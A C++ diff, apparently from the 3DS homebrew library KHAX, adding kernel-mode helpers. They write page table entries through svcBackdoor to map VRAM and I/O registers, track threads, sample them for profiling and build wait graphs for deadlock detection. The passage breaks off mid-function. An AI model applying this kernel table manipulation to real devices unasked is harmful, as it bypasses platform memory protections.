+		GetAddressTranslator(g_versionData) };
+	if (Result result = KernelCall(KernelMap, &request))
+	{
+		KHAX_printf("PhysMap:map %08lx fail:%08lx\n", userAddress, result);
+		return result;
+	}
+
+	*slot = request.m_mapping;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove a mapping made by Map.  *pendingCores, if given, receives a bit for each core whose TLB
+// may still hold the mapping.  Calling again for the same mapping retries those cores.
+Result KHAX::PhysicalMapper::Unmap(u32 userAddress, u32 size, u32 *pendingCores)
+{
+	enum : u32 { ALL_CORES = (1u << APPLICATION_CORE_COUNT) - 1 };
+
+	if (pendingCores)
+	{
+		*pendingCores = 0;
+	}
+
+	for (Mapping &mapping : s_mappings)
+	{
+		if ((mapping.m_size == 0) || (mapping.m_userAddress != userAddress) || (mapping.m_size != size))
+		{
+			continue;
+		}
+
+		Request request = { mapping, GetAddressTranslator(g_versionData) };
+		if (!mapping.m_unmapped)
+		{
+			if (Result result = KernelCall(KernelUnmap, &request))
+			{
+				return result;
+			}
+			mapping.m_unmapped = true;
+		}
+
+		// The cores don't broadcast TLB maintenance, so each one has to drop its own entries.  Until
+		// every core has, the mapping is kept, so that its range isn't handed out again.
+		u32 reached;
+		Result result = KernelCallOnEachCore(KernelInvalidateTLB, &request, &reached);
+		u32 pending = ALL_CORES & ~reached;
+		if (pendingCores)
+		{
+			*pendingCores = (result != 0) ? ALL_CORES : pending;
+		}
+		if (result != 0)
+		{
+			return result;
+		}
+		if (pending != 0)
+		{
+			KHAX_printf("PhysMap:unmap %08lx cores %lx pending\n", userAddress, pending);
+			return MakeError(28, 5, KHAX_MODULE, 1021);
+		}
+
+		mapping.m_size = 0;
+		mapping.m_unmapped = false;
+		return 0;
+	}
+
+	return MakeError(28, 4, KHAX_MODULE, 1018);
+}
+
+//------------------------------------------------------------------------------------------------
+// Remove every mapping, before the process goes away.  Carries on past failures, and returns
+// the first.
+Result KHAX::PhysicalMapper::UnmapAll()
+{
+	Result firstResult = 0;
+	for (Mapping &mapping : s_mappings)
+	{
+		if (mapping.m_size == 0)
+		{
+			continue;
+		}
+
+		Result result = Unmap(mapping.m_userAddress, mapping.m_size, nullptr);
+		if ((result != 0) && (firstResult == 0))
+		{
+			firstResult = result;
+		}
+	}
+
+	return firstResult;
+}
+
+//------------------------------------------------------------------------------------------------
+// atexit handler that removes the mappings if the application didn't.  The kernel frees the
+// translation table with the process, but on the way there our threads still run with it.
+void KHAX::PhysicalMapper::UnmapAllAtExit()
+{
+	UnmapAll();
+}
+
+//------------------------------------------------------------------------------------------------
+// Write the level 1 entries for a mapping.  Runs as svcBackdoor.
+Result KHAX::PhysicalMapper::KernelMap(void *context)
+{
+	const Request *request = static_cast<const Request *>(context);
+	const Mapping *mapping = &request->m_mapping;
+
+	u32 *table = KernelGetTable(request->m_translator);
+	if (!table)
+	{
+		return MakeError(27, 11, KHAX_MODULE, 1014);
+	}
+	table += mapping->m_userAddress / SECTION_SIZE;
+	u32 count = mapping->m_size / SECTION_SIZE;
+
+	// The whole range has to be unmapped, not even covered by a page table.  The scheduler can't
+	// run another of our threads on this core while the entries are being changed.
+	KernelCriticalSection criticalSection;
+	for (u32 x = 0; x < count; ++x)
+	{
+		if (table[x] != 0)
+		{
+			return MakeError(28, 5, KHAX_MODULE, 1013);
+		}
+	}
+
+	for (u32 x = 0; x < count; ++x)
+	{
+		table[x] = mapping->m_descriptor + x * SECTION_SIZE;
+		kernelCleanDataCacheLineWithMva(&table[x]);
+	}
+	userDsb();
+
+	// Translation faults aren't cached in the TLB, so there is nothing to invalidate here.
+	userFlushPrefetch();
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Clear the level 1 entries for a mapping.  Runs as svcBackdoor.
+Result KHAX::PhysicalMapper::KernelUnmap(void *context)
+{
+	const Request *request = static_cast<const Request *>(context);
+	const Mapping *mapping = &request->m_mapping;
+
+	u32 *table = KernelGetTable(request->m_translator);
+	if (!table)
+	{
+		return MakeError(27, 11, KHAX_MODULE, 1014);
+	}
+	table += mapping->m_userAddress / SECTION_SIZE;
+	u32 count = mapping->m_size / SECTION_SIZE;
+
+	// Only clear entries that are still ours.
+	KernelCriticalSection criticalSection;
+	for (u32 x = 0; x < count; ++x)
+	{
+		if (table[x] != mapping->m_descriptor + x * SECTION_SIZE)
+		{
+			return MakeError(27, 5, KHAX_MODULE, 1023);
+		}
+	}
+
+	for (u32 x = 0; x < count; ++x)
+	{
+		table[x] = 0;
+		kernelCleanDataCacheLineWithMva(&table[x]);
+	}
+	userDsb();
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Invalidate this core's TLB entries for a mapping.  Runs as svcBackdoor, on each core.
+Result KHAX::PhysicalMapper::KernelInvalidateTLB(void *context)
+{
+	const Mapping *mapping = &static_cast<const Request *>(context)->m_mapping;
+
+	VersionData::KProcessPointers process = g_versionData->m_makeKProcessPointers(
+		*g_versionData->m_currentKProcessPtr);
+	u32 asid = *process.m_contextID;
+	u32 count = mapping->m_size / SECTION_SIZE;
+
+	for (u32 x = 0; x < count; ++x)
+	{
+		kernelInvalidateTLBEntryWithMvaAndASID(mapping->m_userAddress + x * SECTION_SIZE, asid);
+	}
+	userDsb();
+	userFlushPrefetch();
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Find our level 1 table, checking that it is the one this core is translating with.  Runs at
+// SVC privilege.  m_translationTableBase has to be a kernel address that the translator knows,
+// and its physical address has to be what TTBR0 holds, since we are the current process.
+u32 *KHAX::PhysicalMapper::KernelGetTable(const AddressTranslator &translator)
+{
+	enum : u32 { TABLE_SIZE = USER_SPACE_END / SECTION_SIZE * sizeof(u32) };
+
+	VersionData::KProcessPointers process = g_versionData->m_makeKProcessPointers(
+		*g_versionData->m_currentKProcessPtr);
+	u32 table = reinterpret_cast<std::uintptr_t>(*process.m_translationTableBase);
+
+	const AddressTranslator::Region *hint = nullptr;
+	u32 physical = translator.Convert(AddressTranslator::KERNEL, AddressTranslator::PHYSICAL, table,
+		TABLE_SIZE, hint);
+
+	// TTBR0's table is aligned to its size, with attribute bits below that.
+	u32 ttbr0;
+	__asm__ volatile ("mrc p15, 0, %0, c2, c0, 0\n" : "=r"(ttbr0));
+	if ((physical == 0) || (physical != (ttbr0 & ~(TABLE_SIZE - 1))))
+	{
+		KHAX_printf("PhysMap:table %08lx ttbr0 %08lx\n", table, ttbr0);
+		return nullptr;
+	}
+
+	return reinterpret_cast<u32 *>(table);
+}
+
+//------------------------------------------------------------------------------------------------
+// Physical ranges that may be mapped: VRAM, and the ARM11's I/O registers.  Mapping FCRAM or
+// WRAM this way would give us a second view of memory the kernel manages.
+bool KHAX::PhysicalMapper::IsMappable(u32 physicalAddress, u32 size)
+{
+	static const u32 s_mappable[][2] =
+	{
+		{ 0x10100000, 0x00400000 },  // I/O registers
+		{ 0x18000000, 0x00600000 },  // VRAM
+	};
+
+	for (const auto &range : s_mappable)
+	{
+		if ((physicalAddress >= range[0]) && (size <= range[1]) &&
+			(physicalAddress - range[0] <= range[1] - size))
+		{
+			return true;
+		}
+	}
+
+	return false;
+}
+
+//------------------------------------------------------------------------------------------------
+// User ranges that the kernel never allocates from.  Everything else below USER_SPACE_END is a
+// region that it hands out on request: code, heap, shared memory, both linear heap locations
+// (the newer one running to the end of user space on a New 3DS), and the I/O, VRAM, DSP and
+// configuration mappings along with thread local storage.  Writing sections there would risk
+// the kernel later putting a page table of its own over our entry.
+bool KHAX::PhysicalMapper::IsUserRangeFree(u32 userAddress, u32 size)
+{
+	static const u32 s_free[][2] =
+	{
+		{ 0x04000000, 0x04000000 },  // between code and the heap
+		{ 0x1C000000, 0x02800000 },  // between the old linear heap and the I/O mappings
+		{ 0x20000000, 0x10000000 },  // between configuration memory and the new linear heap
+	};
+
+	for (const auto &range : s_free)
+	{
+		if ((userAddress >= range[0]) && (size <= range[1]) &&
+			(userAddress - range[0] <= range[1] - size))
+		{
+			return true;
+		}
+	}
+
+	return false;
+}
+
+//------------------------------------------------------------------------------------------------
+// Level 1 section descriptor for a physical address and attributes.  The kernel uses the ARMv6
+// descriptor format, with domain 0 and the global bit clear for per-process mappings.
+u32 KHAX::PhysicalMapper::MakeSectionDescriptor(u32 physicalAddress, u32 attributes)
+{
+	// TEX, C and B bits for each of the memory types, in the order of KHAX_MAP_TYPE_MASK.
+	static const u32 s_memoryTypes[] =
+	{
+		(0 << 12) | (0 << 3) | (1 << 2),             // shared device
+		(1 << 12) | (0 << 3) | (0 << 2),             // normal, noncacheable
+		(0 << 12) | (1 << 3) | (0 << 2),             // write-through, no write-allocate
+		(1 << 12) | (1 << 3) | (1 << 2),             // write-back, write-allocate
+	};
+
+	u32 descriptor = physicalAddress | 0x2;          // section
+	descriptor |= s_memoryTypes[attributes & KHAX_MAP_TYPE_MASK];
+	descriptor |= 1 << 17;                           // not global
+	if ((attributes & KHAX_MAP_TYPE_MASK) != KHAX_MAP_DEVICE)
+	{
+		descriptor |= 1 << 16;                       // shared
+	}
+	if (!(attributes & KHAX_MAP_EXECUTE))
+	{
+		descriptor |= 1 << 4;                        // execute never
+	}
+
+	// APX:AP = 0:11 for read/write at all privileges, 1:10 for read-only.
+	descriptor |= (attributes & KHAX_MAP_READ_ONLY) ? (1 << 15) | (2 << 10) : (3 << 10);
+	return descriptor;
+}
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class ThreadRegistry
+//
+
+//------------------------------------------------------------------------------------------------
+KHAX::KThread *KHAX::ThreadRegistry::s_threads[MAX_THREADS] = { };
+Handle KHAX::ThreadRegistry::s_handles[MAX_THREADS] = { };
+
+//------------------------------------------------------------------------------------------------
+// Include the calling thread.
+Result KHAX::ThreadRegistry::Register()
+{
+	Change change = { Change::ADD_CURRENT, 0, 0 };
+	if (Result result = svcDuplicateHandle(&change.m_handle, CUR_THREAD_HANDLE))
+	{
+		return result;
+	}
+
+	Result result = KernelCall(KernelChange, &change);
+
+	// Already registered, or no room.
+	if (change.m_handle)
+	{
+		svcCloseHandle(change.m_handle);
+	}
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Exclude the calling thread.
+Result KHAX::ThreadRegistry::Unregister()
+{
+	Change change = { Change::REMOVE_CURRENT, 0, 0 };
+	Result result = KernelCall(KernelChange, &change);
+	if (change.m_handle)
+	{
+		svcCloseHandle(change.m_handle);
+	}
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Include the main thread.  It isn't the caller, so it is opened by thread ID, and the kernel
+// side checks that the ID is still the main thread's.
+Result KHAX::ThreadRegistry::AddMainThread()
+{
+	Change change = { Change::ADD_MAIN, 0, 0 };
+	if (Result result = KernelCall(KernelGetMainThreadID, &change.m_threadID))
+	{
+		return result;
+	}
+
+	if (Result result = svcOpenThread(&change.m_handle, CUR_PROCESS_HANDLE, change.m_threadID))
+	{
+		return result;
+	}
+
+	Result result = KernelCall(KernelChange, &change);
+	if (change.m_handle)
+	{
+		svcCloseHandle(change.m_handle);
+	}
+	return result;
+}
+
+//------------------------------------------------------------------------------------------------
+// Drop threads that have exited.  A thread object is signalled when the thread exits, so one
+// wait with no timeout finds them.  A handle closed by a racing Unregister makes the wait fail,
+// which just ends this round early.
+void KHAX::ThreadRegistry::Prune()
+{
+	Handle handles[MAX_THREADS];
+	s32 count = 0;
+	for (Handle handle : s_handles)
+	{
+		if (handle)
+		{
+			handles[count++] = handle;
+		}
+	}
+
+	while (count > 0)
+	{
+		s32 index;
+		if ((svcWaitSynchronizationN(&index, handles, count, false, 0) != 0) || (index < 0) || (index >= count))
+		{
+			break;
+		}
+
+		Change change = { Change::REMOVE_HANDLE, handles[index], 0 };
+		KernelCall(KernelChange, &change);
+		if (change.m_handle)
+		{
+			svcCloseHandle(change.m_handle);
+		}
+
+		handles[index] = handles[--count];
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Drop every thread, before the process goes away.
+void KHAX::ThreadRegistry::Clear()
+{
+	for (Handle handle : s_handles)
+	{
+		if (!handle)
+		{
+			continue;
+		}
+
+		Change change = { Change::REMOVE_HANDLE, handle, 0 };
+		KernelCall(KernelChange, &change);
+		if (change.m_handle)
+		{
+			svcCloseHandle(change.m_handle);
+		}
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Make a change.  Runs as svcBackdoor.
+Result KHAX::ThreadRegistry::KernelChange(void *context)
+{
+	Change *change = static_cast<Change *>(context);
+
+	KThread *thread = nullptr;
+	switch (change->m_operation)
+	{
+		case Change::ADD_CURRENT:
+		case Change::REMOVE_CURRENT:
+			thread = *g_versionData->m_currentKThreadPtr;
+			break;
+
+		case Change::ADD_MAIN:
+			thread = *g_versionData->m_makeKProcessPointers(*g_versionData->m_currentKProcessPtr).m_mainThread;
+			if (!thread || (thread->m_threadID != change->m_threadID))
+			{
+				return MakeError(27, 4, KHAX_MODULE, 1018);
+			}
+			break;
+
+		case Change::REMOVE_HANDLE:
+			break;
+
+		default:
+			return MakeError(28, 7, KHAX_MODULE, 1005);
+	}
+
+	unsigned freeSlot = MAX_THREADS;
+	for (unsigned x = 0; x < MAX_THREADS; ++x)
+	{
+		bool match = (change->m_operation == Change::REMOVE_HANDLE) ? (s_handles[x] == change->m_handle) :
+			(s_threads[x] == thread);
+		if (match)
+		{
+			switch (change->m_operation)
+			{
+				case Change::REMOVE_CURRENT:
+				case Change::REMOVE_HANDLE:
+					change->m_handle = s_handles[x];
+					s_threads[x] = nullptr;
+					s_handles[x] = 0;
+					break;
+
+				default:
+					// Already registered; the caller closes the new handle.
+					break;
+			}
+			return 0;
+		}
+
+		if (!s_threads[x] && (freeSlot == MAX_THREADS))
+		{
+			freeSlot = x;
+		}
+	}
+
+	switch (change->m_operation)
+	{
+		case Change::REMOVE_CURRENT:
+			return MakeError(28, 4, KHAX_MODULE, 1018);
+
+		case Change::REMOVE_HANDLE:
+			change->m_handle = 0;
+			return MakeError(28, 4, KHAX_MODULE, 1018);
+
+		default:
+			break;
+	}
+
+	if (freeSlot == MAX_THREADS)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	s_threads[freeSlot] = thread;
+	s_handles[freeSlot] = change->m_handle;
+	change->m_handle = 0;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Read the main thread's ID.  Runs as svcBackdoor.
+Result KHAX::ThreadRegistry::KernelGetMainThreadID(void *context)
+{
+	const KThread *mainThread = *g_versionData->m_makeKProcessPointers(
+		*g_versionData->m_currentKProcessPtr).m_mainThread;
+	if (!mainThread)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	*static_cast<u32 *>(context) = mainThread->m_threadID;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+//
+// Class Sampler
+//
+KhaxSample KHAX::Sampler::s_ring[RING_SIZE];
+volatile u32 KHAX::Sampler::s_head = 0;
+volatile u32 KHAX::Sampler::s_tail = 0;
+volatile u32 KHAX::Sampler::s_dropped = 0;
+KHAX::Sampler::CodeSegment KHAX::Sampler::s_segments[3] =
+{
+	{ "text", 0, 0 },
+	{ "rodata", 0, 0 },
+	{ "data", 0, 0 },
+};
+char KHAX::Sampler::s_processName[9] = "";
+Thread KHAX::Sampler::s_thread = nullptr;
+volatile bool KHAX::Sampler::s_stopping = false;
+u32 KHAX::Sampler::s_intervalMicroseconds = 0;
+
+//------------------------------------------------------------------------------------------------
+// Start the sampling thread.
+Result KHAX::Sampler::Start(u32 intervalMicroseconds, s32 priority)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	if (s_thread)
+	{
+		return MakeError(28, 5, KHAX_MODULE, 1023);
+	}
+
+	if ((intervalMicroseconds == 0) || (priority < 0) || (priority > 0x3F))
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1005);
+	}
+
+	if (Result result = KernelCall(KernelReadCodeSet, nullptr))
+	{
+		return result;
+	}
+
+	if (Result result = ThreadRegistry::AddMainThread())
+	{
+		return result;
+	}
+
+	s_intervalMicroseconds = intervalMicroseconds;
+	s_stopping = false;
+
+	// Affinity -2 is the process's default core.
+	s_thread = threadCreate(ThreadMain, nullptr, THREAD_STACK_SIZE, priority, -2, false);
+	if (!s_thread)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Stop the sampling thread.
+Result KHAX::Sampler::Stop()
+{
+	if (!s_thread)
+	{
+		return 0;
+	}
+
+	s_stopping = true;
+	if (Result result = threadJoin(s_thread, U64_MAX))
+	{
+		return result;
+	}
+
+	threadFree(s_thread);
+	s_thread = nullptr;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Drain samples from the ring.
+u32 KHAX::Sampler::Read(KhaxSample *samples, u32 maxCount, u32 *dropped)
+{
+	u32 tail = s_tail;
+	u32 available = s_head - tail;
+	userDmb();
+
+	u32 count = (std::min)(available, maxCount);
+	for (u32 x = 0; x < count; ++x)
+	{
+		samples[x] = s_ring[(tail + x) & (RING_SIZE - 1)];
+	}
+
+	// The slots must be read before the producer may reuse them.
+	userDmb();
+	s_tail = tail + count;
+
+	if (dropped)
+	{
+		*dropped = s_dropped;
+	}
+	return count;
+}
+
+//------------------------------------------------------------------------------------------------
+// Drain the ring into a folded stack file.  Each stack is the process, the thread, the segment
+// and offset of the resume address, and a final frame for threads that were blocked.
+Result KHAX::Sampler::WriteFolded(const char *path)
+{
+	if (!path)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	KhaxSample *samples = new(std::nothrow) KhaxSample[RING_SIZE];
+	if (!samples)
+	{
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	u32 count = Read(samples, RING_SIZE, nullptr);
+
+	// Identical stacks become adjacent after sorting, so they can be counted in one pass.
+	auto less = [](const KhaxSample &left, const KhaxSample &right)
+	{
+		if (left.threadID != right.threadID)
+		{
+			return left.threadID < right.threadID;
+		}
+		if (left.pc != right.pc)
+		{
+			return left.pc < right.pc;
+		}
+		return (left.waitObject == 0) && (right.waitObject != 0);
+	};
+	std::sort(samples, samples + count, less);
+
+	FILE *file = std::fopen(path, "w");
+	if (!file)
+	{
+		delete[] samples;
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	for (u32 start = 0, end; start < count; start = end)
+	{
+		for (end = start + 1; (end < count) && !less(samples[start], samples[end]); ++end)
+		{
+		}
+
+		const KhaxSample &sample = samples[start];
+		std::fprintf(file, "%s;thread %lu;", s_processName, static_cast<unsigned long>(sample.threadID));
+
+		if (const CodeSegment *segment = FindSegment(sample.pc))
+		{
+			std::fprintf(file, "%s+0x%08lx", segment->m_name, static_cast<unsigned long>(sample.pc - segment->m_address));
+		}
+		else
+		{
+			std::fprintf(file, "[unknown]");
+		}
+
+		std::fprintf(file, "%s %lu\n", (sample.waitObject != 0) ? ";[blocked]" : "",
+			static_cast<unsigned long>(end - start));
+	}
+
+	std::fclose(file);
+	delete[] samples;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Sampling thread.
+void KHAX::Sampler::ThreadMain(void *)
+{
+	while (!s_stopping)
+	{
+		svcSleepThread(static_cast<s64>(s_intervalMicroseconds) * 1000);
+
+		ThreadRegistry::Prune();
+
+		u64 tick = svcGetSystemTick();
+		KernelCall(KernelSnapshot, &tick);
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Snapshot the registered threads.  Runs as svcBackdoor.
+Result KHAX::Sampler::KernelSnapshot(void *context)
+{
+	u64 tick = *static_cast<const u64 *>(context);
+	void *process = *g_versionData->m_currentKProcessPtr;
+	KThread *current = *g_versionData->m_currentKThreadPtr;
+
+	// Disabling interrupts only stops this core from switching threads.  Threads on the other
+	// cores keep running, so what we read of them may be changing as we read it; the handles the
+	// registry holds keep the objects themselves alive.
+	KernelCriticalSection criticalSection;
+
+	u32 head = s_head;
+	u32 tail = s_tail;
+	for (KThread *thread : ThreadRegistry::s_threads)
+	{
+		// We know what the sampling thread is doing.
+		if (!thread || (thread == current) || (thread->m_process != process))
+		{
+			continue;
+		}
+
+		if (head - tail >= RING_SIZE)
+		{
+			++s_dropped;
+			continue;
+		}
+
+		KhaxSample &sample = s_ring[head & (RING_SIZE - 1)];
+		sample.tick = tick;
+		sample.threadID = thread->m_threadID;
+		sample.priority = thread->m_threadPriority;
+		sample.waitObject = reinterpret_cast<std::uintptr_t>(thread->m_waitingOnObject);
+		sample.pc = FindUserPC(thread);
+		sample.kernelLR = thread->m_svcRegisterState ? thread->m_svcRegisterState->m_lr : 0;
+		sample.reserved = 0;
+		++head;
+	}
+
+	// Publish the samples after writing them.
+	userDmb();
+	s_head = head;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Read our code segments and process name out of the KCodeSet.  Runs as svcBackdoor.
+Result KHAX::Sampler::KernelReadCodeSet(void *)
+{
+	VersionData::KProcessPointers process = g_versionData->m_makeKProcessPointers(
+		*g_versionData->m_currentKProcessPtr);
+
+	const KCodeSet *codeSet = *process.m_codeSet;
+	if (!codeSet)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	const KCodeSegment *segments[] = { &codeSet->m_text, &codeSet->m_rodata, &codeSet->m_data };
+	for (unsigned x = 0; x < KHAX_lengthof(segments); ++x)
+	{
+		s_segments[x].m_address = segments[x]->m_address;
+		s_segments[x].m_size = segments[x]->m_pageCount * 0x1000;
+	}
+
+	std::memcpy(s_processName, codeSet->m_processName, sizeof(codeSet->m_processName));
+	s_processName[sizeof(codeSet->m_processName)] = '\0';
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Find the user-mode resume address saved at the top of a thread's kernel stack, which ends
+// where the SVCThreadArea starts.  The SVC and interrupt entry paths push different amounts, so
+// look for the saved user-mode CPSR, then take a neighbouring word that points into our code.
+u32 KHAX::Sampler::FindUserPC(const KThread *thread)
+{
+	if (!thread->m_svcPageEnd)
+	{
+		return 0;
+	}
+
+	const u32 *top = reinterpret_cast<const u32 *>(static_cast<const unsigned char *>(thread->m_svcPageEnd) -
+		sizeof(SVCThreadArea));
+
+	for (unsigned x = 1; x < STACK_SCAN_WORDS; ++x)
+	{
+		u32 cpsr = top[-static_cast<int>(x)];
+		if ((cpsr & 0x1F) != 0x10)
+		{
+			continue;
+		}
+
+		for (u32 pc : { top[-static_cast<int>(x) - 1], top[-static_cast<int>(x) + 1] })
+		{
+			const CodeSegment *segment = FindSegment(pc);
+			if (segment == &s_segments[0])
+			{
+				return pc;
+			}
+		}
+	}
+
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Which code segment an address is in, or null.
+const KHAX::Sampler::CodeSegment *KHAX::Sampler::FindSegment(u32 address)
+{
+	for (const CodeSegment &segment : s_segments)
+	{
+		if ((address >= segment.m_address) && (address - segment.m_address < segment.m_size))
+		{
+			return &segment;
+		}
+	}
+
+	return nullptr;
+}
+
+
+//------------------------------------------------------------------------------------------------
+//
+// Class WaitGraph
+//
+
+//------------------------------------------------------------------------------------------------
+KHAX::WaitGraph::Object KHAX::WaitGraph::s_objects[MAX_OBJECTS] = { };
+u32 KHAX::WaitGraph::s_objectCount = 0;
+u32 KHAX::WaitGraph::s_evictedCount = 0;
+KHAX::WaitGraph::ThreadWait KHAX::WaitGraph::s_waits[ThreadRegistry::MAX_THREADS] = { };
+KHAX::WaitGraph::Cycle KHAX::WaitGraph::s_cycles[MAX_CYCLES] = { };
+u32 KHAX::WaitGraph::s_cycleCount = 0;
+u32 KHAX::WaitGraph::s_snapshot = 0;
+u64 KHAX::WaitGraph::s_snapshotTick = 0;
+const void *KHAX::WaitGraph::s_mutexVTable = nullptr;
+bool KHAX::WaitGraph::s_calibrated = false;
+KHAX::KThread *volatile KHAX::WaitGraph::s_calibrationThread = nullptr;
+
+//------------------------------------------------------------------------------------------------
+// Take a snapshot.
+Result KHAX::WaitGraph::Snapshot(u32 *cycles)
+{
+	if (Result result = RequireKernelAccess())
+	{
+		return result;
+	}
+
+	// Without calibration, waits aren't followed through mutex owners, but the rest still works.
+	if (!s_calibrated)
+	{
+		if (Result result = Calibrate())
+		{
+			KHAX_printf("WaitGraph:calibrate fail:%08lx\n", result);
+			KHAX_UNUSED(result);
+		}
+	}
+
+	ThreadRegistry::Prune();
+
+	u64 tick = svcGetSystemTick();
+	if (Result result = KernelCall(KernelSnapshot, &tick))
+	{
+		return result;
+	}
+
+	if (cycles)
+	{
+		*cycles = s_cycleCount;
+	}
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Write the latest snapshot as a Graphviz graph.  Threads point at the objects they wait on, and
+// mutexes at their owners.
+Result KHAX::WaitGraph::Write(const char *path)
+{
+	if (!path)
+	{
+		return MakeError(28, 7, KHAX_MODULE, 1014);
+	}
+
+	if (s_snapshot == 0)
+	{
+		return MakeError(28, 5, KHAX_MODULE, 1016);
+	}
+
+	FILE *file = std::fopen(path, "w");
+	if (!file)
+	{
+		return MakeError(27, 4, KHAX_MODULE, 1018);
+	}
+
+	std::fprintf(file, "// khax wait graph: snapshot %lu, tick %llu\n", static_cast<unsigned long>(s_snapshot),
+		static_cast<unsigned long long>(s_snapshotTick));
+	std::fprintf(file, "digraph khax_waits {\n");
+
+	for (const ThreadWait &wait : s_waits)
+	{
+		if (wait.m_thread && wait.m_object)
+		{
+			std::fprintf(file, "\t\"thread %lu\" -> \"%p\" [label=\"%llu ticks\"];\n",
+				static_cast<unsigned long>(wait.m_threadID), wait.m_object,
+				static_cast<unsigned long long>(wait.m_lastSeen - wait.m_since));
+		}
+	}
+
+	for (u32 x = 0; x < s_objectCount; ++x)
+	{
+		const Object &object = s_objects[x];
+		if (object.m_snapshot != s_snapshot)
+		{
+			continue;
+		}
+
+		std::fprintf(file, "\t\"%p\" [shape=box, label=\"%s %p\\n%lu waiters\"];\n", object.m_object,
+			object.m_isMutex ? "mutex" : "object", object.m_object, static_cast<unsigned long>(object.m_waiterCount));
+
+		for (u32 waiter = 0; waiter < (std::min)(object.m_waiterCount, static_cast<u32>(MAX_WAITERS)); ++waiter)
+		{
+			std::fprintf(file, "\t\"thread %lu\" -> \"%p\";\n", static_cast<unsigned long>(object.m_waiters[waiter]),
+				object.m_object);
+		}
+
+		if (object.m_ownerThreadID != 0)
+		{
+			std::fprintf(file, "\t\"%p\" -> \"thread %lu\" [style=dashed, label=\"owner\"];\n", object.m_object,
+				static_cast<unsigned long>(object.m_ownerThreadID));
+		}
+		else if (object.m_ownerUnregistered)
+		{
+			std::fprintf(file, "\t\"%p\" -> \"unregistered\" [style=dashed, label=\"owner\"];\n", object.m_object);
+		}
+	}
+
+	std::fprintf(file, "}\n");
+
+	for (u32 x = 0; x < s_cycleCount; ++x)
+	{
+		std::fprintf(file, "// cycle:");
+		for (u32 member = 0; member < s_cycles[x].m_length; ++member)
+		{
+			std::fprintf(file, " thread %lu ->", static_cast<unsigned long>(s_cycles[x].m_threadIDs[member]));
+		}
+		std::fprintf(file, " thread %lu\n", static_cast<unsigned long>(s_cycles[x].m_threadIDs[0]));
+	}
+
+	// One line per object: bucket n counts waits of 2^n to 2^(n+1) - 1 ticks.
+	if (s_evictedCount)
+	{
+		std::fprintf(file, "// %lu objects evicted, with their histograms\n", static_cast<unsigned long>(s_evictedCount));
+	}
+	for (u32 x = 0; x < s_objectCount; ++x)
+	{
+		const Object &object = s_objects[x];
+		std::fprintf(file, "// histogram %p", object.m_object);
+		for (u32 count : object.m_histogram)
+		{
+			std::fprintf(file, " %lu", static_cast<unsigned long>(count));
+		}
+		std::fprintf(file, "\n");
+	}
+
+	std::fclose(file);
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Learn the KMutex vtable and check the owner field.  A helper thread blocks on a mutex that we
+// hold, so the object it waits on is a known mutex, and its owner should be us.
+Result KHAX::WaitGraph::Calibrate()
+{
+	s_mutexVTable = nullptr;
+
+	Handle mutex;
+	if (Result result = svcCreateMutex(&mutex, true))
+	{
+		return result;
+	}
+
+	s_calibrationThread = nullptr;
+	Thread helper = threadCreate(CalibrationThread, &mutex, CALIBRATION_STACK_SIZE, 0x18, -2, false);
+	if (!helper)
+	{
+		svcCloseHandle(mutex);
+		return MakeError(26, 3, KHAX_MODULE, 1011);
+	}
+
+	// KernelCalibrate returns this until the helper has blocked.
+	const Result notYet = MakeError(26, 5, KHAX_MODULE, 1016);
+
+	Result result = notYet;
+	for (unsigned attempt = 0; (result == notYet) && (attempt < CALIBRATION_ATTEMPTS); ++attempt)
+	{
+		svcSleepThread(1000000);
+		result = KernelCall(KernelCalibrate, nullptr);
+	}
+
+	svcReleaseMutex(mutex);
+	threadJoin(helper, U64_MAX);
+	threadFree(helper);
+	svcCloseHandle(mutex);
+
+	// The helper's KThread is gone now.
+	s_calibrationThread = nullptr;
+
+	if (result != 0)
+	{
+		s_mutexVTable = nullptr;
+		return result;
+	}
+
+	s_calibrated = true;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Helper thread for Calibrate.
+void KHAX::WaitGraph::CalibrationThread(void *context)
+{
+	Handle mutex = *static_cast<const Handle *>(context);
+
+	if (KernelCall(KernelRegisterHelper, nullptr) == 0)
+	{
+		svcWaitSynchronization(mutex, U64_MAX);
+		svcReleaseMutex(mutex);
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Record the calling thread as the helper.  Runs as svcBackdoor.
+Result KHAX::WaitGraph::KernelRegisterHelper(void *)
+{
+	s_calibrationThread = *g_versionData->m_currentKThreadPtr;
+	return 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Take the vtable from the mutex the helper is blocked on.  Runs as svcBackdoor.
+Result KHAX::WaitGraph::KernelCalibrate(void *)
+{
+	const KThread *helper = s_calibrationThread;
